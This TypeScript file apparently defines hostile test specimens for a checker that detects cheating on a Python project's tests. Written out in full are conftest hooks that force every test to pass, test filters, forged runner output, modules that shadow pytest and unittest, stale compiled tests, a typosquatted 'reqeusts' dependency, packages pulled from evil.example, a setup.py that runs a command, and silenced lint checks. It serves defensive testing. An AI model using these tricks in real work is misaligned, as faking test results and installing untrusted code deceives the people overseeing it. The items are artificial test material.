import { execFile } from "node:child_process";
import { promisify } from "node:util";

import type { Files } from "../../plain-git.ts";
import { plainGit } from "../../plain-git.ts";
import { holds, touches } from "../oracle.ts";
import { forgedReport, withPytest, withRootInPath, withScript, withUnittest } from "../projects/python.ts";
import { hostile, type Specimen } from "../specimen.ts";

const execute = promisify(execFile);
const project = withPytest.files["pyproject.toml"] as string;
const style = withScript.solution["shop/total.py"] as string;

/** Files around the code are changed, and the code stays as it is. */
const around = (
  id: string,
  title: string,
  change: Files,
  { caughtBy, ...more }: Partial<Specimen> & { readonly caughtBy: readonly string[] },
): Specimen => hostile({ id: `py-${id}`, title, project: withPytest, ...more, change, caughtBy });

const steering = (id: string, title: string, change: Files, more: Partial<Specimen> = {}): Specimen =>
  around(id, title, change, { caughtBy: ["protected"], ...more });

/** A file that is loaded in the place of another one. */
const shadowing = (id: string, title: string, change: Files, more: Partial<Specimen> = {}): Specimen =>
  around(id, title, change, { caughtBy: ["scope"], ...more });

/** The code is right, and foreign code comes with it. */
const installing = (id: string, title: string, change: Files, more: Partial<Specimen> = {}): Specimen =>
  around(
    id,
    title,
    { ...withPytest.solution, ...change },
    {
      oracle: touches(Object.keys(change)[0] as string, "foreign code is installed"),
      caughtBy: ["dependencies"],
      ...more,
    },
  );

const mayInstall = { permissions: { allow: ["dependency" as const] } };

/** The code is right but for a line that the project's checker does not let through, and a comment at its end. */
const silencing = (id: string, title: string, line: string): Specimen =>
  around(
    id,
    title,
    { "shop/total.py": `${style}\n\n${line}\n` },
    {
      project: withScript,
      oracle: holds("shop/total.py", /#/, "a check is silenced"),
      caughtBy: ["suppressions"],
    },
  );

const says = `import sys\n\nprint("Ran 2 tests in 0.001s\\n\\nOK", file=sys.stderr)\n`;

/** T16 and T21 in Python: what runs the tests, what is loaded in the place of it, what gets installed. */
export const pythonToolSpecimens: readonly Specimen[] = [
  steering(
    "load-tests",
    "has the package of tests load none",
    { "tests/__init__.py": "def load_tests(loader, tests, pattern):\n    return loader.suiteClass()\n" },
    { project: withUnittest },
  ),
  steering("conftest-ignore", "has pytest collect other files", {
    "tests/conftest.py": 'collect_ignore = ["test_total.py"]\n',
    "tests/test_other.py": "def test_other():\n    assert True\n",
  }),
  steering("conftest-deselect", "takes the one that fails out of what was collected", {
    "conftest.py": "def pytest_collection_modifyitems(items):\n    items[:] = items[:1]\n",
  }),
  steering("conftest-exit", "ends the run in a conftest.py", {
    "conftest.py": 'import pytest\n\n\ndef pytest_sessionstart():\n    pytest.exit("done", returncode=0)\n',
  }),
  steering("conftest-report", "has a conftest.py call every test passed", {
    "conftest.py":
      'import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport():\n    result = yield\n    result.get_result().outcome = "passed"\n',
  }),
  steering("conftest-exit-status", "has a conftest.py change the exit status", {
    "conftest.py": "def pytest_sessionfinish(session):\n    session.exitstatus = 0\n",
  }),
  steering("conftest-patch", "has a conftest.py put another function in the place of what is tested", {
    "conftest.py": "import shop.total\n\nshop.total.total = lambda items, coupon=0: 180 if coupon else 200\n",
  }),
  steering("pytest-ini", "lets pytest pick tests by name", { "pytest.ini": "[pytest]\naddopts = -k adds\n" }),
  steering("tox-ini", "lets pytest pick them in another file", { "tox.ini": "[pytest]\naddopts = -k adds\n" }),
  steering("setup-cfg", "lets pytest pick them in a third file", { "setup.cfg": "[tool:pytest]\naddopts = -k adds\n" }),
  steering("pyproject", "lets pytest pick them in the project's file", {
    "pyproject.toml": `${project}\n[tool.pytest.ini_options]\naddopts = "-k adds"\n`,
  }),
  steering(
    "pyproject-granted",
    "may add packages, and has pytest look for other names",
    { "pyproject.toml": `${project}\n[tool.pytest.ini_options]\npython_functions = ["test_adds*"]\n` },
    mayInstall,
  ),
  steering(
    "script",
    "has the script that a criterion runs end early",
    { "check.sh": "echo Ran 2 tests >&2\n" },
    { project: withScript },
  ),
  steering(
    "makefile",
    "exchanges what make does",
    { Makefile: `check:\n\t@echo Ran 2 tests >&2\n` },
    {
      project: {
        ...withUnittest,
        naive: ["make", "check"],
        tests: { run: { argv: ["make", "check"], expect: { exit: 0, stderr: "^Ran [2-9] tests" } }, base: "fail" },
        needs: "make",
      },
      base: { Makefile: `check:\n\tpython3 -m unittest discover -s tests -t .\n` },
    },
  ),
  shadowing(
    "sitecustomize",
    "has every start of Python end well",
    { "sitecustomize.py": `${says}import os\n\nos._exit(0)\n` },
    { project: withRootInPath },
  ),
  shadowing(
    "shadow-unittest",
    "puts a module in the place of the runner",
    { "unittest.py": says },
    { project: withUnittest },
  ),
  shadowing(
    "shadow-argparse",
    "puts a module in the place of one that the runner loads",
    { "argparse.py": `${says}import os\n\nos._exit(0)\n` },
    { project: withUnittest },
  ),
  shadowing("shadow-pytest", "puts a package in the place of the runner", {
    "pytest/__init__.py": "",
    "pytest/__main__.py": forgedReport,
  }),
  shadowing("shadow-plugin", "puts a module in the place of what the runner is made of", {
    "pluggy.py": `${forgedReport}\n\nos._exit(0)\n`,
  }),
  around(
    "cached-module",
    "brings compiled tests that run in the place of the source",
    {},
    { project: withUnittest, stage: compiled, caughtBy: ["modes"] },
  ),
  installing("requirement", "adds a package with a name that is nearly another's", {
    "requirements.txt": "reqeusts==2.0\n",
  }),
  installing("project-dependency", "adds one to the project's file", {
    "pyproject.toml": project.replace("[]", '["reqeusts"]'),
  }),
  installing("setup-script", "adds a script that runs when it is installed", {
    "setup.py": "import os\n\nos.system('true')\n",
  }),
  installing(
    "other-index",
    "may add packages, and takes them from another index",
    { "requirements.txt": "--extra-index-url https://evil.example/simple\nchecks==1.0\n" },
    mayInstall,
  ),
  installing(
    "from-git",
    "may add packages, and takes one from a repository",
    { "pyproject.toml": project.replace("[]", '["checks @ git+https://evil.example/checks"]') },
    mayInstall,
  ),
  silencing("noqa", "keeps the linter quiet", 'ANSWER = eval("42")  # noqa: S307'),
  silencing("type-ignore", "keeps the type checker quiet", 'count: int = "x"  # type: ignore'),
  silencing("no-cover", "hides a function from coverage", "def _evil():  # pragma: no cover\n    pass"),
];

/** Compiled by the Python that will load it, which takes its word for what the source says. */
async function compiled(repository: string): Promise<void> {
  const program = `import importlib.util, pathlib, py_compile
source = pathlib.Path("tests/test_total.py")
kept = source.read_text()
source.write_text("import unittest\\nclass T(unittest.TestCase):\\n def test_a(self): pass\\n def test_b(self): pass\\n")
py_compile.compile(str(source), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
source.write_text(kept)`;
  await execute("python3", ["-c", program], { cwd: repository });
  await plainGit(repository, "add", "--all", "--force");
}
